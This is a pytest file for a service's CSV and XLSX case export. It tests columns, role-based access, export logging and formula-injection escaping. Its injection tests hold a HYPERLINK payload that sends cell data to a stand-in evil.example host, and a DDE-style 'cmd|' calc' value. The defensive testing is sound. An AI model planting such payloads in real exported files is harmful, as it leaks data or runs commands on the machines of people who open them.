"""What a list shows, as a file: the same cases, noted before a byte is sent, and never a formula."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest
from sqlalchemy import select, update
from sqlmodel import col

from service.documents.sheets import STARTS, harmless
from service.records.people import Person
from service.records.timeline import ReadEntry
from tests.makers import PERSONAL, fields, people, press, report

CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def table(content: bytes, kind: str) -> list[list[str]]:
    """Every cell of a file, as what a spreadsheet shows; a formula is no text and so fails."""
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert "formula" not in str(book.namelist())
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert sheet.find(f".//{CELL}f") is None
    rows = []
    for row in sheet.iter(f"{CELL}row"):
        cells = {}
        for cell in row.iter(f"{CELL}c"):
            assert cell.get("t") == "inlineStr"
            cells[re.match(r"[A-Z]+", cell.get("r"))[0]] = "".join(cell.itertext())
        rows.append([cells.get(chr(65 + place), "") for place in range(19)])
    return rows


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_file_holds_what_the_list_shows(token, sign_in, database, kind):
    staff, digital, colleague = people(token, "staff digital colleague")
    one, other = report(staff, codes=["disrepute"]), report(colleague, account=PERSONAL, codes=["other"])
    press(digital, one, "assign", person="digital2@demo.example")
    answer = digital.get(f"/api/export.{kind}?order=oldest")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"] == f'attachment; filename="amends-2026-11-20.{kind}"'
    heading, *rows = table(answer.content, kind)
    assert heading[0] == "Reference"
    assert [row[0] for row in rows] == [one["reference"], other["reference"]]
    assert rows[1][5:8] == ["Instagram", "Personal account", ""]
    assert dict(zip(heading, rows[0], strict=True)) | {"Due": "", "Next": ""} == {
        "Reference": one["reference"],
        "Severity": "High",
        "Stage": "Reported",
        "Kind": "Mistake",
        "What it is": one["title"],
        "Platform": "X",
        "Account": "Official account",
        "Account name": "'@EmbassyTokyo",
        "Posted": "",
        "Deleted": "",
        "Reported": "2026-11-20 09:00:00+00:00",
        "Next": "",
        "Due": "",
        "Late": "No",
        "Desk that holds it": "Digital Transformation Unit",
        "Who looks after it": digital.get(f"/api/cases/{one['reference']}").json()["assigned_name"],
        "Their e-mail address": "digital2@demo.example",
        "Guarded": "No",
        "Closed": "",
    }
    page = sign_in("digital").get(f"/queue/export.{kind}?severity=high")
    assert [row[0] for row in table(page.content, kind)[1:]] == [one["reference"]]
    assert [row[0] for row in table(staff.get(f"/api/export.{kind}").content, kind)[1:]] == [one["reference"]]
    assert table(token("outsider").get(f"/api/export.{kind}").content, kind)[1:] == []
    seen_by_auditor = table(token("auditor").get(f"/api/export.{kind}").content, kind)[1]
    assert [seen_by_auditor[place] for place in (4, 5, 6, 7, 8, 11, 12, 13, 15, 16)] == [""] * 10
    assert (digital.get(f"/api/export.{kind}?stage=x").status_code, digital.get("/api/export.pdf").status_code) == (
        422,
        404,
    )
    assert fields(digital.get(f"/api/export.{kind}?from=x")) == {"from"}
    assert fields(digital.get(f"/api/export.{kind}?colour=red")) == {"colour"}
    assert sign_in("digital").get(f"/queue/export.{kind}?colour=red").status_code == 422
    assert staff.get(f"/api/export.{kind}?desk=hr").status_code == 403
    assert sign_in("outsider").get(f"/queue/export.{kind}").status_code == 403
    with database.read() as db:
        lines = db.execute(select(ReadEntry).where(col(ReadEntry.what) == "export")).scalars().all()
    told = [(line.through, line.detail) for line in lines]
    assert told[:2] == [("api", "order=oldest"), ("page", "order=worst&severity=high")]
    assert len(told) == 5


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_begins_a_formula(token, database, kind):
    staff, digital = people(token, "staff digital")
    wicked = '=HYPERLINK("https://evil.example/"&A1,"=1+1")'
    case = report(staff, account={"type": "official", "platform": wicked, "handle": wicked})
    press(digital, case, "assign", person="digital2@demo.example")
    with database.write() as db:
        db.execute(update(Person).where(col(Person.email) == "digital2@demo.example").values(name=wicked))
    rows = table(digital.get(f"/api/export.{kind}").content, kind)
    assert [rows[1][place] for place in (5, 7, 15)] == [f"'{wicked}"] * 3


def test_what_could_begin_a_formula_is_made_harmless():
    for start in STARTS:
        for cell in (f"{start}1", f"  {start}1", f"\u00a0{start}cmd|' /C calc'!A0"):
            assert harmless(cell) == f"'{cell}"
    for cell in ("", "Wrong account · official X", "1 - 2", "a=b", "東京"):
        assert harmless(cell) == cell


def test_many_rows_are_read_at_one_moment(token, database, monkeypatch):
    """More rows than one fetch takes, each of them once."""
    from sqlalchemy import insert

    from service.records.cases import Case

    report(token("staff"))
    with database.write() as db:
        first = dict(db.execute(select(Case.__table__)).one()._mapping)
        crowd = [first | {"id": n, "reference": f"SM-2026-{n:07}"} for n in range(1000, 2300)]
        db.execute(insert(Case.__table__), crowd)
        db.execute(update(Case).values(reporter_id=first["reporter_id"]))
    rows = table(token("staff").get("/api/export.csv").content, "csv")
    assert len(rows) == len({row[0] for row in rows}) == 1302
